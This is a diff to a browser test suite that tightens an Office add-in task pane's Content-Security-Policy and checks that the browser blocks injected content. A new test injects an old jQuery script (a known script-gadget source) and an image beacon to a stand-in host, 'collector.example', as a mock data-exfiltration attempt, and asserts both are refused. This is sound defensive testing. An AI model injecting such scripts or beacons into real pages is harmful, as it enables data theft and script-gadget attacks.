@@ -31,8 +31,18 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
 
   test("the page carries the policy Office.js lives with, and no inline script of ours", async () => {
     const policy = await policyOf(world.pane);
-    expect(policy["script-src"]).toEqual(["'self'", "https://appsforoffice.microsoft.com", "https://ajax.aspnetcdn.com"]);
+    expect(policy["default-src"]).toEqual(["'self'"]);
+    // Office.js's folder (office.js loads its host script beside itself) and MicrosoftAjax's one file, no whole CDN host.
+    expect(policy["script-src"]).toEqual([
+      "'self'",
+      "https://appsforoffice.microsoft.com/lib/1/hosted/",
+      "https://ajax.aspnetcdn.com/ajax/3.5/MicrosoftAjax.js",
+    ]);
     expect(policy["style-src"]).toEqual(["'self'", "'unsafe-inline'"]);
+    expect(policy["img-src"]).toEqual(["'self'"]);
+    expect(policy["font-src"]).toEqual(["'self'"]);
+    // Office.js frames its telemetry page even outside Office; nothing else may be framed.
+    expect(policy["frame-src"]).toEqual(["'self'", "https://telemetryservice.firstpartyapps.oaspapps.com"]);
     // The test build reaches the local sandbox on any port; nothing else beyond the page's own origin.
     expect(policy["connect-src"]).toEqual([
       "'self'",
@@ -56,7 +66,7 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
   test("the full flow — connect, overview, read, preview, confirm, fills, month end — reports no violation", async () => {
     const { page } = world.pane;
     await connect(page, DEMO_API_KEY, world.sandbox.baseUrl);
-    await page.waitForSelector("svg.sparkline[data-points]:not([data-points='0'])", { timeout: 10_000 });
+    await page.waitForSelector("svg.sparkline[data-points]:not([data-points='0'])");
     await select(page, "A2:E3");
     await page.locator("#read-selection").click();
     await page.waitForSelector("#preview:not([hidden])");
@@ -165,6 +175,29 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
       await page.waitForFunction(() => ((window as unknown as { __cspViolations: unknown[] }).__cspViolations ?? []).length > 0);
       expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
       expect(await cspViolations(world.pane)).toEqual(expect.arrayContaining([expect.objectContaining({ directive: "script-src-elem" })]));
+    });
+
+    test("old jQuery from the Office CDN's neighbour does not load (script gadgets), nor does a foreign image", async () => {
+      const { page } = world.pane;
+      await page.evaluate(() => {
+        const script = document.createElement("script");
+        script.src = "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-1.4.2.min.js";
+        document.head.append(script);
+        const img = document.createElement("img");
+        img.src = "https://collector.example/pixel.gif?k=x";
+        document.body.append(img);
+      });
+      await page.waitForFunction(() =>
+        ((window as unknown as { __cspViolations: Array<{ blocked?: string }> }).__cspViolations ?? []).some((v) =>
+          String(v.blocked).includes("collector.example"),
+        ),
+      );
+      expect(await cspViolations(world.pane)).toEqual(
+        expect.arrayContaining([
+          expect.objectContaining({ directive: "script-src-elem", blocked: expect.stringContaining("ajax.aspnetcdn.com") }),
+          expect.objectContaining({ directive: "img-src", blocked: expect.stringContaining("collector.example") }),
+        ]),
+      );
     });
 
     test("a stolen key cannot leave: a fetch to a foreign origin is refused by the browser before it is sent", async () => {
